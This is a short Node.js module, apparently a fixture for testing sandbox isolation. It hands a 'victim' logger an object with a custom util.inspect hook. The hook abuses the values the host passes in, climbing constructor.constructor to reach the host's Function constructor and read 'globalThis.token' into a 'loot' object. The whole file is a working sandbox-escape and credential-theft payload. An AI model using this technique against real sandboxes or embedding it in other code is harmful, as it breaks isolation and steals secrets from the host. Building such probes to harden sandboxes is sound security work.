module.exports = (victim, loot) => {
  victim.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
    for (const value of [options, inspect, this.constructor, options && options.stylize]) {
      try { loot.value = value.constructor.constructor('return globalThis.token')(); } catch (error) { loot.error = error; }
    }
    return 'shown';
  } });
};
